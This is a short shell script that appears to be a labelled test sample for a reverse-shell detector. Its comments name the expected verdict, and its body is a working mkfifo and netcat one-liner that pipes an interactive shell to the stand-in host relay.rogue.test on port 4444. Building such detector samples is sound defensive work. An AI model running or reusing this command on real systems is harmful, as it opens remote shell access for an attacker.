#!/bin/sh
# expect: reverse-shell
# why: a fifo pipeline joining sh and netcat (no dup2, no -e)
rm -f /tmp/f; mkfifo /tmp/f
timeout 3 sh -c 'cat /tmp/f | /bin/sh -i 2>&1 | nc relay.rogue.test 4444 > /tmp/f'
true
